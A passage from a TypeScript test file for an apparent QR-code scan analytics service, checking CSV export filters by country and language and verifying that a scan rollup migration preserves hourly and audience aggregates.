      // The two groups' scans interleave by time (1 ms apart).
      'DE Bavaria Munich de true', 'DE Bavaria Munich de false', 'DE Bavaria Munich de true',
      'DE Bavaria Munich de false', 'DE Bavaria Munich de true', 'US   en true', '    ', '    ',
    ]);
    const german = await csv({ country: 'DE', language: 'de' });
    expect(german.slice(1).map((r) => r[10])).toEqual(['true', 'false', 'true', 'false', 'true']);
    let accountText = '';
    for await (const chunk of await exportScansCsv(database.db, { accountId: owner }, { filters: { country: 'FR' } })) accountText += chunk;
    expect(parseCsv(accountText).slice(1).map((r) => `${r[1]} ${r[8]}`)).toEqual(['Flyer FR', 'Flyer FR', 'Flyer FR', 'Flyer FR']);
  });

  it('fills the rollup by every dimension from the stored scans, and counts pruned ones as unknown', async () => {
    const { owner, a } = await audience();
    await foldScans(database.db);
    // Two scans are pruned before the upgrade: the rollup keeps counting them, the audience table as unknown.
    await sql`delete from scan_groups where qr_code_id = ${a.id} and is_unique = false`.execute(database.db);
    const narrow = () => sql`select qr_code_id, hour, device, os, browser, scans from scan_hourly order by 1, 2, 3, 4, 5`.execute(database.db).then((r) => r.rows);
    const before = await narrow();
    await database.db.transaction().execute(async (trx) => {
      await scanRollupAudienceMigration.down(trx as unknown as Kysely<unknown>);
      await scanRollupAudienceMigration.up(trx as unknown as Kysely<unknown>);
    });
    expect(await narrow()).toEqual(before);
    const { rows } = await sql<{ source: string; scans: number; unique: number }>`
      select 'code' as source, sum(scans)::int as scans, sum(unique_scans)::int as unique from scan_hourly
      union all select 'account', sum(scans)::int, sum(unique_scans)::int from account_scan_hourly
      union all select 'code audience', sum(scans)::int, sum(unique_scans)::int from scan_hourly_audience
      union all select 'account audience', sum(scans)::int, sum(unique_scans)::int from account_scan_hourly_audience`.execute(database.db);
    expect(rows.map((r) => [r.source, r.scans, r.unique])).toEqual([
      ['code', 12, 8], ['account', 12, 8], ['code audience', 12, 8], ['account audience', 12, 8],
    ]);
    const places = await audienceBreakdowns(database.db, { scope: { accountId: owner }, range: '7d', timeZone: 'Europe/Berlin', now });
    expect(places.countries.map((e) => [e.value, e.scans])).toEqual([['', 4], ['FR', 4], ['DE', 3], ['US', 1]]);
    expect((await scanTimeSeries(database.db, { scope: { accountId: owner }, range: '7d', now })).uniqueTotal).toBe(8);
  });
});
